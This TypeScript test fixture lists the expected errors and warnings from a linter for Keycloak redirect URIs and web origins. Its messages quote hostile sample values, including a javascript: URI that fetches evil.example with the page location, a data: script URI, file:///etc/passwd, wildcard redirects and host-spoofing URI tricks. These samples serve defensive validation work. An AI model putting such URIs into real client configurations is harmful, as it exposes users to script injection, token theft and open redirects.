/** Redirect URIs and web origins in every environment. */
import type { Expected } from "./expected";

export const URIS: Record<string, Expected[]> = {
  "invalid/dangerous-redirect-uri": [
    {
      at: "clients/app.yaml:11:9",
      severity: "error",
      rule: "dangerous-redirect-uri",
      message:
        "development redirect URI \"javascript:fetch('https://evil.example/?'+location)\" uses the javascript: scheme, which runs the rest of the URI as script in the browser",
      fix: "redirect to the application's own https callback (a loopback or private-use URI for a native app)",
    },
    {
      at: "clients/app.yaml:12:9",
      severity: "error",
      rule: "dangerous-redirect-uri",
      message:
        'development redirect URI "data:text/html,<script>alert(1)</script>" uses the data: scheme, which makes the browser show a document carried in the URI itself',
      fix: "redirect to the application's own https callback (a loopback or private-use URI for a native app)",
    },
    {
      at: "clients/app.yaml:13:9",
      severity: "error",
      rule: "dangerous-redirect-uri",
      message:
        'development redirect URI "file:///etc/passwd" uses the file: scheme, which opens a file on the user\'s own machine',
      fix: "redirect to the application's own https callback (a loopback or private-use URI for a native app)",
    },
    {
      at: "clients/app.yaml:14:9",
      severity: "error",
      rule: "dangerous-redirect-uri",
      message:
        'development redirect URI "blob:https://app.example.org/0b9c" uses the blob: scheme, which points at content a page created inside the browser',
      fix: "redirect to the application's own https callback (a loopback or private-use URI for a native app)",
    },
    {
      at: "clients/app.yaml:15:9",
      severity: "error",
      rule: "dangerous-redirect-uri",
      message:
        'development redirect URI "about:blank" uses the about: scheme, which names a page of the browser itself',
      fix: "redirect to the application's own https callback (a loopback or private-use URI for a native app)",
    },
    {
      at: "clients/app.yaml:16:9",
      severity: "error",
      rule: "dangerous-redirect-uri",
      message:
        'development redirect URI "http://*" ends in * before its host is complete, so Keycloak accepts every URI that starts with "http://", on other hosts too',
      fix: "list each redirect URI exactly (outside production, https://host/* accepts any path on one host)",
    },
    {
      at: "clients/app.yaml:17:9",
      severity: "error",
      rule: "dangerous-redirect-uri",
      message: 'development redirect URI "*" is * alone, which lets Keycloak redirect to any URI at all',
      fix: "list each redirect URI exactly (outside production, https://host/* accepts any path on one host)",
    },
    {
      at: "clients/app.yaml:18:30",
      severity: "error",
      rule: "dangerous-redirect-uri",
      message:
        'development post-logout redirect URI "vbscript:msgbox(1)" uses the vbscript: scheme, which runs the rest of the URI as script in the browser',
      fix: "redirect to the application's own https callback (a loopback or private-use URI for a native app)",
    },
    {
      at: "clients/app.yaml:20:20",
      severity: "error",
      rule: "dangerous-redirect-uri",
      message:
        'staging redirect URI "https://app.example.org*" ends in * before its host is complete, so Keycloak accepts every URI that starts with "https://app.example.org", on other hosts too',
      fix: "list each redirect URI exactly (outside production, https://host/* accepts any path on one host)",
    },
  ],
  "invalid/ambiguous-redirect-uri": [
    {
      at: "clients/app.yaml:11:9",
      severity: "error",
      rule: "ambiguous-redirect-uri",
      message:
        'development redirect URI "https://app.example.org@evil.example/callback" has userinfo ("app.example.org@") before its host "evil.example", which a reader can take for the host',
      fix: "remove the userinfo: write the host evil.example right after //",
    },
    {
      at: "clients/app.yaml:12:9",
      severity: "error",
      rule: "ambiguous-redirect-uri",
      message:
        'development redirect URI "https://evil.example\\\\@app.example.org/callback" contains a backslash, which browsers read as / in http(s) URIs',
      fix: "write / where a path separator is meant, or %5C for a literal backslash",
    },
    {
      at: "clients/app.yaml:13:9",
      severity: "error",
      rule: "ambiguous-redirect-uri",
      message:
        'development redirect URI "https://app.example.org/oidc/../admin/callback" has the dot-segment ".." in its path, which URL parsing resolves: browsers go to "https://app.example.org/admin/callback"',
      fix: "write the path without . or .. segments: https://app.example.org/admin/callback",
    },
    {
      at: "clients/app.yaml:14:9",
      severity: "error",
      rule: "ambiguous-redirect-uri",
      message:
        'development redirect URI "https://app.example.org/oidc/%2e%2e/callback" has the dot-segment "%2e%2e" in its path, which URL parsing resolves: browsers go to "https://app.example.org/callback"',
      fix: "write the path without . or .. segments: https://app.example.org/callback",
    },
    {
      at: "clients/app.yaml:15:9",
      severity: "error",
      rule: "ambiguous-redirect-uri",
      message:
        'development redirect URI "https:///callback" has no host as written, but URL parsing reads the host "callback"',
      fix: "write https://<host>/<path>, e.g. https://app.example.org/callback",
    },
    {
      at: "clients/app.yaml:16:9",
      severity: "error",
      rule: "ambiguous-redirect-uri",
      message:
        'development redirect URI "https://0x7f.1/callback" has host "0x7f.1", an IPv4 address in shorthand that URL parsing reads as 127.0.0.1',
      fix: "write the host as browsers read it: 127.0.0.1",
    },
    {
      at: "clients/app.yaml:17:9",
      severity: "error",
      rule: "ambiguous-redirect-uri",
      message:
        'development redirect URI "http://2130706433:8080/callback" has host "2130706433", an IPv4 address in shorthand that URL parsing reads as 127.0.0.1',
      fix: "write the host as browsers read it: 127.0.0.1",
    },
    {
      at: "clients/app.yaml:18:9",
      severity: "error",
      rule: "ambiguous-redirect-uri",
      message:
        'development redirect URI "https://*.example.org/callback" has * in its host, but * is allowed only as the last character of a URI without a query, where Keycloak matches any path',
      fix: "list each redirect URI exactly (outside production, a * at the very end accepts any path)",
    },
    {
      at: "clients/app.yaml:19:9",
      severity: "error",
      rule: "ambiguous-redirect-uri",
      message:
        'development redirect URI "https://app.example.org/*/callback" has * in its path, but * is allowed only as the last character of a URI without a query, where Keycloak matches any path',
      fix: "list each redirect URI exactly (outside production, a * at the very end accepts any path)",
    },
    {
      at: "clients/app.yaml:22:30",
      severity: "error",
      rule: "ambiguous-redirect-uri",
      message:
        'staging post-logout redirect URI "https://app.stg.example.org/bye/." has the dot-segment "." in its path, which URL parsing resolves: browsers go to "https://app.stg.example.org/bye/"',
      fix: "write the path without . or .. segments: https://app.stg.example.org/bye/",
    },
  ],
  "warning/wildcard-redirect-uri": [
    {
      at: "clients/app.yaml:10:20",
      severity: "warning",
      rule: "wildcard-redirect-uri",
      message:
        'development redirect URI "http://127.0.0.1:5000/*" ends in *, so Keycloak sends authorization codes to any URI that starts with "http://127.0.0.1:5000/"',
      fix: "list each redirect URI exactly; production refuses wildcards",
    },
    {
      at: "clients/app.yaml:13:30",
      severity: "warning",
      rule: "wildcard-redirect-uri",
      message:
        'staging post-logout redirect URI "https://app.stg.example.org/*" ends in *, so Keycloak sends users after logout to any URI that starts with "https://app.stg.example.org/"',
      fix: "list each redirect URI exactly; production refuses wildcards",
    },
  ],
  "invalid/invalid-web-origin": [
    {
      at: "clients/app.yaml:11:18",
      severity: "error",
      rule: "invalid-web-origin",
      message: 'development web origin "*" allows cross-origin requests from every web site',
      fix: "list each origin exactly, as scheme://host[:port], or + for the origins of the redirect URIs",
    },
    {
      at: "clients/app.yaml:11:23",
      severity: "error",
      rule: "invalid-web-origin",
      message:
        'development web origin "http://localhost:8080/" has a path ("/"), but an origin is scheme://host[:port] only',
      fix: "write it as http://localhost:8080",
    },
    {
      at: "clients/app.yaml:11:47",
      severity: "error",
      rule: "invalid-web-origin",
      message:
        'development web origin "https://*.example.org" contains a wildcard, but an origin names one scheme, host and port',
      fix: "list each origin exactly, as scheme://host[:port], or + for the origins of the redirect URIs",
    },
    {
      at: "clients/app.yaml:11:72",
      severity: "error",
      rule: "invalid-web-origin",
      message: 'development web origin "null" is not an origin, which is scheme://host[:port]',
      fix: "list each origin exactly, as scheme://host[:port], or + for the origins of the redirect URIs",
    },
    {
      at: "clients/app.yaml:14:18",
      severity: "error",
      rule: "invalid-web-origin",
      message:
        'staging web origin "https://user@app.stg.example.org" has userinfo ("user@") before its host "app.stg.example.org", which a reader can take for the host',
      fix: "remove the userinfo: write the host app.stg.example.org right after //",
    },
    {
      at: "clients/app.yaml:14:52",
      severity: "error",
      rule: "invalid-web-origin",
      message:
        'staging web origin "https://0x7f.1" has host "0x7f.1", an IPv4 address in shorthand that URL parsing reads as 127.0.0.1',
      fix: "write the host as browsers read it: 127.0.0.1",
    },
    {
      at: "clients/app.yaml:14:68",
      severity: "error",
      rule: "invalid-web-origin",
      message:
        'staging web origin "https://app.stg.example.org:443" is not written as browsers send it: "https://app.stg.example.org"',
      fix: "write it as https://app.stg.example.org",
    },
  ],
};
